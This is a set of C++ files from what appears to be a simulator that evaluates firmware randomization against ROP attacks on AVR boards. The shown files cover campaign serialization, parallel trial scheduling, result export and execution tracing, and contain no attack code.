  put_u64(w, accum.detections);
  put_u64(w, accum.degradations);
  put_u64(w, accum.detector_trips);
}

ChunkAccum decode_chunk_accum(support::ByteReader& r) {
  ChunkAccum accum;
  accum.sum_attempts = get_f64(r);
  accum.max_attempts = get_f64(r);
  accum.sum_startup_ms = get_f64(r);
  accum.sum_ttd_cycles = get_f64(r);
  accum.cycles = get_u64(r);
  accum.successes = get_u64(r);
  accum.detections = get_u64(r);
  accum.degradations = get_u64(r);
  accum.detector_trips = get_u64(r);
  return accum;
}

void encode_chunk_result(support::ByteWriter& w, const ChunkResult& result) {
  MAVR_REQUIRE(result.attempts.size() <= kChunkTrials,
               "chunk carries more attempts than its trial budget");
  put_u64(w, result.index);
  encode_chunk_accum(w, result.accum);
  w.u32_le(static_cast<std::uint32_t>(result.attempts.size()));
  for (double a : result.attempts) put_f64(w, a);
}

ChunkResult decode_chunk_result(support::ByteReader& r) {
  ChunkResult result;
  result.index = get_u64(r);
  result.accum = decode_chunk_accum(r);
  const std::uint32_t count = r.u32_le();
  if (count > kChunkTrials) {
    throw support::DataError("wire: chunk attempts count exceeds chunk size");
  }
  result.attempts.reserve(count);
  for (std::uint32_t i = 0; i < count; ++i) {
    result.attempts.push_back(get_f64(r));
  }
  return result;
}

void encode_stats(support::ByteWriter& w, const CampaignStats& stats) {
  put_u64(w, stats.trials);
  put_u64(w, stats.successes);
  put_u64(w, stats.detections);
  put_u64(w, stats.degradations);
  put_f64(w, stats.mean_attempts);
  put_f64(w, stats.max_attempts);
  put_f64(w, stats.p50_attempts);
  put_f64(w, stats.p90_attempts);
  put_f64(w, stats.p99_attempts);
  put_f64(w, stats.mean_cycles);
  put_u64(w, stats.total_cycles);
  put_f64(w, stats.mean_startup_ms);
  put_u64(w, stats.detector_trips);
  put_f64(w, stats.mean_ttd_cycles);
}

CampaignStats decode_stats(support::ByteReader& r) {
  CampaignStats stats;
  stats.trials = get_u64(r);
  stats.successes = get_u64(r);
  stats.detections = get_u64(r);
  stats.degradations = get_u64(r);
  stats.mean_attempts = get_f64(r);
  stats.max_attempts = get_f64(r);
  stats.p50_attempts = get_f64(r);
  stats.p90_attempts = get_f64(r);
  stats.p99_attempts = get_f64(r);
  stats.mean_cycles = get_f64(r);
  stats.total_cycles = get_u64(r);
  stats.mean_startup_ms = get_f64(r);
  stats.detector_trips = get_u64(r);
  stats.mean_ttd_cycles = get_f64(r);
  return stats;
}

support::Bytes canonical_config(const CampaignConfig& config) {
  support::Bytes blob;
  support::ByteWriter w(blob);
  w.u8(kWireVersion);
  encode_config(w, config);
  return blob;
}

std::uint64_t config_fingerprint(const CampaignConfig& config) {
  const support::Bytes blob = canonical_config(config);
  std::uint64_t hash = 0xcbf29ce484222325ull;  // FNV-1a 64 offset basis
  for (std::uint8_t byte : blob) {
    hash ^= byte;
    hash *= 0x100000001b3ull;  // FNV-1a 64 prime
  }
  return hash;
}

}  // namespace mavr::campaign::wire
