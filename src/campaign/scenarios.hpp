// Scenario implementations for the campaign engine.
//
// Board scenarios (v1/v2/v3) replay the paper's §VII-A evaluation at
// population scale: every trial stands up its own board behind a MAVR
// master seeded from the trial's forked Rng stream, so each trial attacks
// a *different* fresh permutation with a payload derived from the stock
// binary (threat model §IV-A — the attacker never sees the randomized
// image). Brute-force scenarios run the §V-D analytic models' Monte-Carlo
// counterparts, one model draw per trial.
#pragma once

#include "attack/attacks.hpp"
#include "campaign/campaign.hpp"
#include "detect/policy.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"

namespace mavr::campaign {

/// Shared read-only state for the board scenarios: everything the paper's
/// attacker computes offline from the stock binary, built once per
/// campaign and read concurrently by all workers.
struct SimFixture {
  firmware::Firmware fw;            ///< stock vulnerable build (MAVR flags)
  attack::AttackPlan plan;          ///< offline analysis of the stock image
  std::string container_hex;       ///< preprocessed container for the master
  std::vector<attack::StkMoveGadget> usable_stk;  ///< brute-forceable guesses
  /// Analysis-derived per-function detector policy (blob function order),
  /// computed once from the stock image — layout-invariant, so every
  /// trial's master re-materializes the same set against its own fresh
  /// permutation (analyze-sweep scenario, DESIGN.md §15).
  detect::PolicySet policy;
};

/// Builds the offline-attacker fixture for `profile` (generates and links
/// the firmware — milliseconds, done once per campaign).
SimFixture make_sim_fixture(const firmware::AppProfile& profile);

/// Trial body for `config`: the unit a worker — in-process thread pool or
/// campaignd worker process — evaluates per trial index. Board scenarios
/// require `fixture` (which must outlive the returned fn); model scenarios
/// ignore it. The config is captured by value, so the returned fn is
/// self-contained apart from the fixture.
TrialFn make_trial_fn(const CampaignConfig& config, const SimFixture* fixture);

/// Runs the configured scenario on a prebuilt fixture (board scenarios) —
/// use when several campaigns share one firmware build.
CampaignStats run_campaign(const CampaignConfig& config,
                           const SimFixture& fixture);

/// Front door: builds whatever the scenario needs and runs it. Board
/// scenarios use the fast-to-simulate `firmware::testapp` profile.
CampaignStats run_campaign(const CampaignConfig& config);

}  // namespace mavr::campaign
