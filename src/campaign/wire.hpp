// Wire encoding for campaign data that crosses a process boundary: the
// campaignd coordinator ships CampaignConfig to workers, workers ship
// ChunkResult accumulators back, the checkpoint store persists them, and
// status replies carry CampaignStats to polling clients.
//
// Everything is fixed-width little-endian; doubles travel as their IEEE-754
// bit patterns (std::bit_cast through u64), so a value decodes to exactly
// the bits that were encoded — the determinism contract ("bit-identical
// stats at any worker count") survives serialization by construction.
// Decoders validate enums and lengths and throw support::DataError (or the
// ByteReader's PreconditionError) on malformed input; transport layers
// treat any support::Error as a corrupt frame.
#pragma once

#include <cstdint>

#include "campaign/campaign.hpp"
#include "support/bytes.hpp"

namespace mavr::campaign::wire {

/// Bumped whenever any encoding below changes shape. Framed into every
/// campaignd message and checkpoint record, so a stale peer or store is
/// rejected instead of misparsed.
/// v2: CampaignConfig gained the analyze-sweep scenario tag and the
/// analyze_policy flag.
/// v3: CampaignConfig gained the exec_tier flag (superblock tier on/off).
inline constexpr std::uint8_t kWireVersion = 3;

// Primitive helpers shared by the campaignd protocol and checkpoint store.
void put_u64(support::ByteWriter& w, std::uint64_t v);
std::uint64_t get_u64(support::ByteReader& r);
void put_f64(support::ByteWriter& w, double v);
double get_f64(support::ByteReader& r);

// CampaignConfig. `jobs` is deliberately not encoded (mirroring the
// exporters): it is an execution detail of one process, and the service's
// parallelism is its worker count. Decoded configs come back with jobs=1.
void encode_config(support::ByteWriter& w, const CampaignConfig& config);
CampaignConfig decode_config(support::ByteReader& r);

void encode_trial_result(support::ByteWriter& w, const TrialResult& result);
TrialResult decode_trial_result(support::ByteReader& r);

void encode_chunk_accum(support::ByteWriter& w, const ChunkAccum& accum);
ChunkAccum decode_chunk_accum(support::ByteReader& r);

void encode_chunk_result(support::ByteWriter& w, const ChunkResult& result);
ChunkResult decode_chunk_result(support::ByteReader& r);

void encode_stats(support::ByteWriter& w, const CampaignStats& stats);
CampaignStats decode_stats(support::ByteReader& r);

/// Canonical byte identity of a config: version-prefixed encoding with
/// jobs excluded. Two configs produce the same bytes iff every
/// result-affecting field matches — the coordinator compares these
/// directly when deduplicating retried submits (a fingerprint match alone
/// could, in principle, collide).
support::Bytes canonical_config(const CampaignConfig& config);

/// 64-bit FNV-1a over canonical_config: the identity of a campaign for
/// checkpoint matching.
std::uint64_t config_fingerprint(const CampaignConfig& config);

}  // namespace mavr::campaign::wire
