#include "campaign/campaign.hpp"

#include <algorithm>
#include <atomic>
#include <cmath>
#include <exception>
#include <mutex>
#include <thread>
#include <vector>

#include "support/error.hpp"

namespace mavr::campaign {

const char* scenario_name(Scenario scenario) {
  switch (scenario) {
    case Scenario::kV1: return "v1";
    case Scenario::kV2: return "v2";
    case Scenario::kV3: return "v3";
    case Scenario::kBruteForceFixed: return "bruteforce-fixed";
    case Scenario::kBruteForceRerand: return "bruteforce-rerand";
    case Scenario::kFaultSweep: return "fault-sweep";
    case Scenario::kDetectSweep: return "detect-sweep";
    case Scenario::kAnalyzeSweep: return "analyze-sweep";
  }
  return "?";
}

const char* scenario_description(Scenario scenario) {
  switch (scenario) {
    case Scenario::kV1:
      return "traditional ROP fleet vs. freshly randomized boards";
    case Scenario::kV2:
      return "stealthy ROP fleet (repaired frame, clean return) vs. "
             "randomized boards";
    case Scenario::kV3:
      return "trampoline ROP fleet (chain staged in unused SRAM) vs. "
             "randomized boards";
    case Scenario::kBruteForceFixed:
      return "brute-force model: attacker vs. one fixed permutation (paper "
             "sec. V-D)";
    case Scenario::kBruteForceRerand:
      return "brute-force model: attacker vs. re-randomize-on-failure";
    case Scenario::kFaultSweep:
      return "self-healing reflash pipeline vs. an armed fault plane at "
             "--fault-rate";
    case Scenario::kDetectSweep:
      return "runtime detectors (--detectors) vs. one attack variant or a "
             "clean flight (--attack)";
    case Scenario::kAnalyzeSweep:
      return "detect sweep with the analysis-derived per-function policy "
             "loaded at every reflash (--generic for the baseline)";
  }
  return "?";
}

std::span<const Scenario> all_scenarios() {
  static constexpr Scenario kAll[] = {
      Scenario::kV1,
      Scenario::kV2,
      Scenario::kV3,
      Scenario::kBruteForceFixed,
      Scenario::kBruteForceRerand,
      Scenario::kFaultSweep,
      Scenario::kDetectSweep,
      Scenario::kAnalyzeSweep,
  };
  return kAll;
}

std::optional<Scenario> parse_scenario(std::string_view name) {
  for (Scenario s : all_scenarios()) {
    if (name == scenario_name(s)) return s;
  }
  return std::nullopt;
}

bool scenario_uses_board(Scenario scenario) {
  return scenario == Scenario::kV1 || scenario == Scenario::kV2 ||
         scenario == Scenario::kV3 || scenario == Scenario::kFaultSweep ||
         scenario == Scenario::kDetectSweep ||
         scenario == Scenario::kAnalyzeSweep;
}

const char* detect_attack_name(DetectAttack attack) {
  switch (attack) {
    case DetectAttack::kClean: return "clean";
    case DetectAttack::kV1: return "v1";
    case DetectAttack::kV2: return "v2";
    case DetectAttack::kV3: return "v3";
  }
  return "?";
}

std::optional<DetectAttack> parse_detect_attack(std::string_view name) {
  for (DetectAttack a : {DetectAttack::kClean, DetectAttack::kV1,
                         DetectAttack::kV2, DetectAttack::kV3}) {
    if (name == detect_attack_name(a)) return a;
  }
  return std::nullopt;
}

namespace {

/// Nearest-rank percentile of a sorted sample.
double percentile(const std::vector<double>& sorted, double q) {
  if (sorted.empty()) return 0;
  const auto rank = static_cast<std::size_t>(
      std::ceil(q * static_cast<double>(sorted.size())));
  return sorted[std::min(sorted.size() - 1, rank == 0 ? 0 : rank - 1)];
}

/// Runs chunk `c` into `out`. Returns false when `abort` became visible
/// before the chunk's last trial finished; `out` is then partial and must
/// be discarded.
bool run_one_chunk(const CampaignConfig& config, const TrialFn& fn,
                   std::uint64_t c, const std::atomic<bool>* abort,
                   ChunkResult* out) {
  // Read-only root: fork() derives child streams from the construction
  // seed, so concurrent forks are race-free and order-free.
  const support::Rng root(config.seed);
  const std::uint64_t begin = c * kChunkTrials;
  const std::uint64_t end = std::min(begin + kChunkTrials, config.trials);
  out->index = c;
  out->accum = ChunkAccum{};
  out->attempts.assign(end - begin, 0.0);
  ChunkAccum& acc = out->accum;
  for (std::uint64_t t = begin; t < end; ++t) {
    // Per-trial abort check: once another worker fails, in-flight chunks
    // stop at the next trial boundary instead of running out their full
    // 64-trial budget. The success path never sets `abort`, so the
    // determinism contract is untouched.
    if (abort && abort->load(std::memory_order_relaxed)) return false;
    support::Rng rng = root.fork(t);
    const TrialResult r = fn(t, rng);
    out->attempts[t - begin] = r.attempts;
    acc.sum_attempts += r.attempts;
    acc.max_attempts = std::max(acc.max_attempts, r.attempts);
    acc.sum_startup_ms += r.startup_ms;
    if (r.detected) acc.sum_ttd_cycles += static_cast<double>(r.ttd_cycles);
    acc.cycles += r.cycles;
    acc.successes += r.success ? 1 : 0;
    acc.detections += r.detected ? 1 : 0;
    acc.degradations += r.degraded ? 1 : 0;
    acc.detector_trips += r.detector_fired ? 1 : 0;
  }
  return true;
}

}  // namespace

std::uint64_t num_chunks(std::uint64_t trials) {
  return (trials + kChunkTrials - 1) / kChunkTrials;
}

std::vector<ChunkResult> run_chunk_range(const CampaignConfig& config,
                                         const TrialFn& fn,
                                         std::uint64_t begin_chunk,
                                         std::uint64_t end_chunk,
                                         const std::atomic<bool>* abort) {
  const std::uint64_t n = num_chunks(config.trials);
  MAVR_REQUIRE(begin_chunk <= end_chunk && end_chunk <= n,
               "chunk range out of bounds");
  std::vector<ChunkResult> out;
  out.reserve(end_chunk - begin_chunk);
  for (std::uint64_t c = begin_chunk; c < end_chunk; ++c) {
    ChunkResult r;
    if (!run_one_chunk(config, fn, c, abort, &r)) break;
    out.push_back(std::move(r));
  }
  return out;
}

CampaignStats merge_chunk_results(std::span<const ChunkResult> chunks) {
  CampaignStats stats;
  std::uint64_t covered = 0;
  for (const ChunkResult& chunk : chunks) covered += chunk.attempts.size();
  stats.trials = covered;
  if (covered == 0) return stats;

  // Merge per-chunk accumulators in chunk-index order: the floating-point
  // summation order is fixed regardless of worker scheduling — or of
  // which process computed the chunk.
  double sum = 0;
  double sum_startup = 0;
  double sum_ttd = 0;
  std::vector<double> attempts;
  attempts.reserve(covered);
  const ChunkResult* prev = nullptr;
  for (const ChunkResult& chunk : chunks) {
    MAVR_REQUIRE(prev == nullptr || prev->index < chunk.index,
                 "chunk results must be sorted by strictly increasing index");
    prev = &chunk;
    const ChunkAccum& acc = chunk.accum;
    sum += acc.sum_attempts;
    sum_startup += acc.sum_startup_ms;
    sum_ttd += acc.sum_ttd_cycles;
    stats.max_attempts = std::max(stats.max_attempts, acc.max_attempts);
    stats.total_cycles += acc.cycles;
    stats.successes += acc.successes;
    stats.detections += acc.detections;
    stats.degradations += acc.degradations;
    stats.detector_trips += acc.detector_trips;
    attempts.insert(attempts.end(), chunk.attempts.begin(),
                    chunk.attempts.end());
  }
  const auto n = static_cast<double>(covered);
  stats.mean_attempts = sum / n;
  stats.mean_cycles = static_cast<double>(stats.total_cycles) / n;
  stats.mean_startup_ms = sum_startup / n;
  stats.mean_ttd_cycles =
      stats.detections > 0 ? sum_ttd / static_cast<double>(stats.detections)
                           : 0;

  std::sort(attempts.begin(), attempts.end());
  stats.p50_attempts = percentile(attempts, 0.50);
  stats.p90_attempts = percentile(attempts, 0.90);
  stats.p99_attempts = percentile(attempts, 0.99);
  return stats;
}

CampaignStats run_trials(const CampaignConfig& config, const TrialFn& fn) {
  MAVR_REQUIRE(config.jobs >= 1 && config.jobs <= 256,
               "jobs must be in [1, 256]");
  if (config.trials == 0) return CampaignStats{};

  const std::uint64_t n_chunks = num_chunks(config.trials);
  std::vector<ChunkResult> chunks(n_chunks);

  std::atomic<std::uint64_t> next_chunk{0};
  std::atomic<bool> abort{false};
  std::mutex error_mutex;
  std::exception_ptr first_error;

  auto worker = [&] {
    try {
      for (;;) {
        const std::uint64_t c =
            next_chunk.fetch_add(1, std::memory_order_relaxed);
        if (c >= n_chunks || abort.load(std::memory_order_relaxed)) return;
        // An aborted chunk leaves a partial accumulator in its slot; the
        // rethrow below discards everything, so it never reaches a merge.
        run_one_chunk(config, fn, c, &abort, &chunks[c]);
      }
    } catch (...) {
      const std::lock_guard<std::mutex> lock(error_mutex);
      if (!first_error) first_error = std::current_exception();
      abort.store(true, std::memory_order_relaxed);
    }
  };

  if (config.jobs == 1) {
    worker();  // same code path, no thread overhead
  } else {
    const auto n_workers = static_cast<unsigned>(
        std::min<std::uint64_t>(config.jobs, n_chunks));
    std::vector<std::thread> pool;
    pool.reserve(n_workers);
    for (unsigned i = 0; i < n_workers; ++i) pool.emplace_back(worker);
    for (std::thread& th : pool) th.join();
  }
  if (first_error) std::rethrow_exception(first_error);

  return merge_chunk_results(chunks);
}

}  // namespace mavr::campaign
