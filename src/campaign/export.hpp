// Result export for campaign runs: CSV (header + rows) and flat JSON
// objects. Both carry the config alongside the aggregates so a result
// file is self-describing and a rerun is reproducible from it alone.
//
// The header/row split is the machine-diffable contract shared with the
// benches: anything sweeping a parameter (bench/reflash_faults) emits
// csv_header() once and one csv_row()/to_json() per configuration, so its
// files diff cleanly against single-run mavr-campaign exports.
#pragma once

#include <string>

#include "campaign/campaign.hpp"

namespace mavr::campaign {

/// printf into a std::string of exactly the required length: a first
/// vsnprintf pass measures, a second formats. No fixed buffer, so a wide
/// row (long detector list, maximal %.17g doubles, future columns) can
/// never be silently truncated mid-field; a measurement/format disagreement
/// throws InvariantError. The exporters below are built on it; exposed so
/// the no-truncation contract is directly testable.
std::string format_exact(const char* fmt, ...)
    __attribute__((__format__(__printf__, 1, 2)));

/// The CSV column list (no trailing newline).
const char* csv_header();

/// One newline-terminated CSV data row.
std::string csv_row(const CampaignConfig& config, const CampaignStats& stats);

/// Two-line CSV: header row + one data row.
std::string to_csv(const CampaignConfig& config, const CampaignStats& stats);

/// Flat JSON object (config + aggregates), newline-terminated.
std::string to_json(const CampaignConfig& config, const CampaignStats& stats);

}  // namespace mavr::campaign
