// Result export for campaign runs: CSV (header + rows) and flat JSON
// objects. Both carry the config alongside the aggregates so a result
// file is self-describing and a rerun is reproducible from it alone.
//
// The header/row split is the machine-diffable contract shared with the
// benches: anything sweeping a parameter (bench/reflash_faults) emits
// csv_header() once and one csv_row()/to_json() per configuration, so its
// files diff cleanly against single-run mavr-campaign exports.
#pragma once

#include <string>

#include "campaign/campaign.hpp"

namespace mavr::campaign {

/// The CSV column list (no trailing newline).
const char* csv_header();

/// One newline-terminated CSV data row.
std::string csv_row(const CampaignConfig& config, const CampaignStats& stats);

/// Two-line CSV: header row + one data row.
std::string to_csv(const CampaignConfig& config, const CampaignStats& stats);

/// Flat JSON object (config + aggregates), newline-terminated.
std::string to_json(const CampaignConfig& config, const CampaignStats& stats);

}  // namespace mavr::campaign
