// Result export for campaign runs: one-row CSV (with header) and a flat
// JSON object. Both carry the config alongside the aggregates so a result
// file is self-describing and a rerun is reproducible from it alone.
#pragma once

#include <string>

#include "campaign/campaign.hpp"

namespace mavr::campaign {

/// Two-line CSV: header row + one data row.
std::string to_csv(const CampaignConfig& config, const CampaignStats& stats);

/// Flat JSON object (config + aggregates), newline-terminated.
std::string to_json(const CampaignConfig& config, const CampaignStats& stats);

}  // namespace mavr::campaign
