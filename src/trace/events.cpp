#include "trace/events.hpp"

#include <sstream>

#include "avr/instr.hpp"
#include "support/error.hpp"

namespace mavr::trace {

namespace {

const char* kind_name(EventKind kind) {
  switch (kind) {
    case EventKind::Retire: return "retire";
    case EventKind::Call: return "call";
    case EventKind::Ret: return "ret";
    case EventKind::Irq: return "irq";
    case EventKind::SpChange: return "sp";
    case EventKind::Load: return "load";
    case EventKind::Store: return "store";
    case EventKind::Fault: return "fault";
    case EventKind::UartTx: return "uart_tx";
    case EventKind::UartRx: return "uart_rx";
    case EventKind::UartUnderrun: return "uart_underrun";
    case EventKind::WatchHit: return "watch_hit";
  }
  return "?";
}

}  // namespace

ExecutionTrace::ExecutionTrace(std::size_t capacity, std::uint32_t mask)
    : mask_(mask) {
  MAVR_REQUIRE(capacity > 0, "trace ring capacity must be non-zero");
  buffer_.resize(capacity);
}

void ExecutionTrace::record(const Event& event) {
  if ((mask_ & mask_of(event.kind)) == 0) return;
  ++total_;
  if (count_ < buffer_.size()) {
    buffer_[(head_ + count_) % buffer_.size()] = event;
    ++count_;
  } else {
    buffer_[head_] = event;
    head_ = (head_ + 1) % buffer_.size();
  }
}

const Event& ExecutionTrace::at(std::size_t index) const {
  MAVR_REQUIRE(index < count_, "trace event index out of range");
  return buffer_[(head_ + index) % buffer_.size()];
}

void ExecutionTrace::clear() {
  head_ = 0;
  count_ = 0;
  total_ = 0;
}

std::string ExecutionTrace::jsonl() const {
  std::ostringstream os;
  for (std::size_t i = 0; i < count_; ++i) {
    const Event& e = at(i);
    os << "{\"cycle\":" << e.cycle << ",\"kind\":\"" << kind_name(e.kind)
       << "\",\"pc\":" << e.pc_words;
    switch (e.kind) {
      case EventKind::Retire:
        os << ",\"op\":\"" << avr::op_name(static_cast<avr::Op>(e.op))
           << "\",\"cycles\":" << e.a;
        break;
      case EventKind::Call:
        os << ",\"to\":" << e.a << ",\"ret\":" << e.b;
        break;
      case EventKind::Ret:
        os << ",\"to\":" << e.a << ",\"raw\":" << e.b
           << ",\"wrapped\":" << (e.a != e.b ? "true" : "false");
        break;
      case EventKind::Irq:
        os << ",\"slot\":" << e.a << ",\"from\":" << e.b;
        break;
      case EventKind::SpChange:
        os << ",\"sp_from\":" << e.a << ",\"sp_to\":" << e.b;
        break;
      case EventKind::Load:
      case EventKind::Store:
        os << ",\"addr\":" << e.a << ",\"value\":" << e.b;
        break;
      case EventKind::Fault:
        os << ",\"opcode\":" << e.a << ",\"last_ret_raw\":" << e.b;
        break;
      case EventKind::UartTx:
      case EventKind::UartRx:
        os << ",\"byte\":" << e.a;
        break;
      case EventKind::UartUnderrun:
        break;
      case EventKind::WatchHit:
        os << ",\"watch\":" << e.a << ",\"value\":" << e.b;
        break;
    }
    os << "}\n";
  }
  return os.str();
}

std::string ExecutionTrace::csv() const {
  std::ostringstream os;
  os << "kind,cycle,pc_words,op,a,b\n";
  for (std::size_t i = 0; i < count_; ++i) {
    const Event& e = at(i);
    os << kind_name(e.kind) << ',' << e.cycle << ',' << e.pc_words << ',';
    if (e.kind == EventKind::Retire) {
      os << avr::op_name(static_cast<avr::Op>(e.op));
    }
    os << ',' << e.a << ',' << e.b << '\n';
  }
  return os.str();
}

void ExecutionTrace::on_retire(const avr::Cpu& cpu, std::uint32_t pc_words,
                               const avr::Instr& instr, std::uint32_t cycles) {
  record(Event{.kind = EventKind::Retire,
               .op = static_cast<std::uint8_t>(instr.op),
               .cycle = cpu.cycles(),
               .pc_words = pc_words,
               .a = cycles,
               .b = 0});
}

void ExecutionTrace::on_call(const avr::Cpu& cpu, std::uint32_t from_words,
                             std::uint32_t to_words, std::uint32_t ret_words) {
  record(Event{.kind = EventKind::Call,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = from_words,
               .a = to_words,
               .b = ret_words});
}

void ExecutionTrace::on_ret(const avr::Cpu& cpu, std::uint32_t from_words,
                            std::uint32_t to_words, std::uint32_t raw_words,
                            bool /*reti*/) {
  record(Event{.kind = EventKind::Ret,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = from_words,
               .a = to_words,
               .b = raw_words});
}

void ExecutionTrace::on_irq(const avr::Cpu& cpu, std::uint8_t slot,
                            std::uint32_t from_words) {
  record(Event{.kind = EventKind::Irq,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = cpu.pc(),
               .a = slot,
               .b = from_words});
}

void ExecutionTrace::on_sp_change(const avr::Cpu& cpu, std::uint16_t old_sp,
                                  std::uint16_t new_sp) {
  record(Event{.kind = EventKind::SpChange,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = cpu.pc(),
               .a = old_sp,
               .b = new_sp});
}

void ExecutionTrace::on_load(const avr::Cpu& cpu, std::uint32_t addr,
                             std::uint8_t value) {
  record(Event{.kind = EventKind::Load,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = cpu.pc(),
               .a = addr,
               .b = value});
}

void ExecutionTrace::on_store(const avr::Cpu& cpu, std::uint32_t addr,
                              std::uint8_t value) {
  record(Event{.kind = EventKind::Store,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = cpu.pc(),
               .a = addr,
               .b = value});
}

void ExecutionTrace::on_fault(const avr::Cpu& cpu,
                              const avr::FaultInfo& info) {
  record(Event{.kind = EventKind::Fault,
               .op = 0,
               .cycle = cpu.cycles(),
               .pc_words = info.pc_words,
               .a = info.opcode,
               .b = info.last_ret_raw_words});
}

}  // namespace mavr::trace
