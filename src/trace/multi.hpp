// Fan-out Tracer: forwards every hook to an ordered list of children, so a
// ring-buffer trace, a profiler and watchpoints can all observe one run
// through the Cpu's single tracer slot.
#pragma once

#include <algorithm>
#include <vector>

#include "avr/cpu.hpp"

namespace mavr::trace {

class MultiTracer : public avr::Tracer {
 public:
  /// Children are not owned and are invoked in registration order.
  void add(avr::Tracer* child) {
    if (child != nullptr) children_.push_back(child);
  }
  void remove(avr::Tracer* child) {
    children_.erase(std::remove(children_.begin(), children_.end(), child),
                    children_.end());
  }
  std::size_t size() const { return children_.size(); }

  void on_retire(const avr::Cpu& cpu, std::uint32_t pc_words,
                 const avr::Instr& instr, std::uint32_t cycles) override {
    for (avr::Tracer* t : children_) t->on_retire(cpu, pc_words, instr, cycles);
  }
  void on_call(const avr::Cpu& cpu, std::uint32_t from_words,
               std::uint32_t to_words, std::uint32_t ret_words) override {
    for (avr::Tracer* t : children_) {
      t->on_call(cpu, from_words, to_words, ret_words);
    }
  }
  void on_ret(const avr::Cpu& cpu, std::uint32_t from_words,
              std::uint32_t to_words, std::uint32_t raw_words,
              bool reti) override {
    for (avr::Tracer* t : children_) {
      t->on_ret(cpu, from_words, to_words, raw_words, reti);
    }
  }
  void on_irq(const avr::Cpu& cpu, std::uint8_t slot,
              std::uint32_t from_words) override {
    for (avr::Tracer* t : children_) t->on_irq(cpu, slot, from_words);
  }
  void on_sp_change(const avr::Cpu& cpu, std::uint16_t old_sp,
                    std::uint16_t new_sp) override {
    for (avr::Tracer* t : children_) t->on_sp_change(cpu, old_sp, new_sp);
  }
  void on_load(const avr::Cpu& cpu, std::uint32_t addr,
               std::uint8_t value) override {
    for (avr::Tracer* t : children_) t->on_load(cpu, addr, value);
  }
  void on_store(const avr::Cpu& cpu, std::uint32_t addr,
                std::uint8_t value) override {
    for (avr::Tracer* t : children_) t->on_store(cpu, addr, value);
  }
  void on_fault(const avr::Cpu& cpu, const avr::FaultInfo& info) override {
    for (avr::Tracer* t : children_) t->on_fault(cpu, info);
  }

 private:
  std::vector<avr::Tracer*> children_;
};

}  // namespace mavr::trace
