// One-stop observability session: bundles the ring-buffer trace, the
// per-function profiler and the watchpoint engine behind the Cpu's single
// tracer slot, and (optionally) taps a Uart so host-visible MAVLink
// packets land on the same cycle timeline as the instruction stream.
//
//   trace::Session session(firmware.image);
//   session.watchpoints().watch_sp(lo, hi, trace::SpWatchMode::Inside);
//   session.attach(board.cpu(), &board.telemetry());
//   board.run_cycles(...);
//   std::string jsonl = session.trace().jsonl();
//   std::string prof  = session.profiler()->report();
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <vector>

#include "avr/cpu.hpp"
#include "avr/uart.hpp"
#include "mavlink/mavlink.hpp"
#include "toolchain/image.hpp"
#include "trace/events.hpp"
#include "trace/multi.hpp"
#include "trace/profiler.hpp"
#include "trace/watchpoints.hpp"

namespace mavr::trace {

class Session : public avr::UartTap {
 public:
  struct Options {
    std::size_t trace_capacity = std::size_t{1} << 16;
    std::uint32_t trace_mask = kDefaultMask;
  };

  /// Session without a symbol table: trace + watchpoints, no profiler.
  Session();
  explicit Session(const Options& options);
  /// Session with per-function profiling keyed off `image`'s symbols.
  explicit Session(const toolchain::Image& image);
  Session(const toolchain::Image& image, const Options& options);
  ~Session() override;

  Session(const Session&) = delete;
  Session& operator=(const Session&) = delete;

  /// Claims `cpu`'s tracer slot (and `uart`'s tap, when given). Detaches
  /// automatically on destruction.
  void attach(avr::Cpu& cpu, avr::Uart* uart = nullptr);
  void detach();
  bool attached() const { return cpu_ != nullptr; }

  ExecutionTrace& trace() { return trace_; }
  const ExecutionTrace& trace() const { return trace_; }
  Watchpoints& watchpoints() { return watchpoints_; }
  const Watchpoints& watchpoints() const { return watchpoints_; }
  /// nullptr when constructed without an image.
  Profiler* profiler() { return profiler_ ? &*profiler_ : nullptr; }
  const Profiler* profiler() const { return profiler_ ? &*profiler_ : nullptr; }

  /// One MAVLink packet reassembled from tapped UART bytes. `cycle` is the
  /// simulated time the final CRC byte crossed the line.
  struct PacketRecord {
    std::uint64_t cycle = 0;
    bool to_host = false;  ///< true: firmware→GCS (TX), false: GCS→firmware
    mavlink::Packet packet;
  };
  const std::vector<PacketRecord>& packets() const { return packets_; }

  /// Data-register reads that found no byte ready, as seen by the tap.
  std::uint64_t uart_underruns() const { return uart_underruns_; }

  // --- UartTap hooks ---------------------------------------------------------
  void on_tx(std::uint64_t cycle, std::uint8_t byte) override;
  void on_rx(std::uint64_t cycle, std::uint8_t byte) override;
  void on_rx_underrun(std::uint64_t cycle) override;

 private:
  MultiTracer mux_;
  ExecutionTrace trace_;
  Watchpoints watchpoints_;
  std::optional<Profiler> profiler_;
  mavlink::Parser tx_parser_;
  mavlink::Parser rx_parser_;
  std::vector<PacketRecord> packets_;
  std::uint64_t uart_underruns_ = 0;
  avr::Cpu* cpu_ = nullptr;
  avr::Uart* uart_ = nullptr;
};

}  // namespace mavr::trace
