// Bounded execution-trace sink: a ring buffer of fixed-size events fed by
// the Cpu's Tracer hooks (and, through trace::Session, by the UART tap),
// exportable as JSONL or CSV for offline analysis.
//
// The ring keeps the *last* `capacity` events and counts what it dropped —
// when a stealthy attack ends in a clean return, the interesting part of
// the timeline is the tail, not the boot sequence.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "avr/cpu.hpp"

namespace mavr::trace {

enum class EventKind : std::uint8_t {
  Retire,        ///< a=cycles taken
  Call,          ///< a=to_words, b=ret_words (pushed return address)
  Ret,           ///< a=to_words (masked), b=raw popped target
  Irq,           ///< a=vector slot, b=from_words
  SpChange,      ///< a=old SP, b=new SP
  Load,          ///< a=data address, b=value
  Store,         ///< a=data address, b=value
  Fault,         ///< a=opcode, b=raw target of the last RET before the fault
  UartTx,        ///< a=byte the firmware transmitted
  UartRx,        ///< a=byte the firmware consumed
  UartUnderrun,  ///< data-register read with nothing ready
  WatchHit,      ///< a=watchpoint id, b=offending value (SP or address)
};

inline constexpr std::uint32_t mask_of(EventKind kind) {
  return 1u << static_cast<unsigned>(kind);
}

/// Every event class except the per-instruction Retire/Load/Store firehose —
/// the right default for long runs where only control flow and line traffic
/// matter.
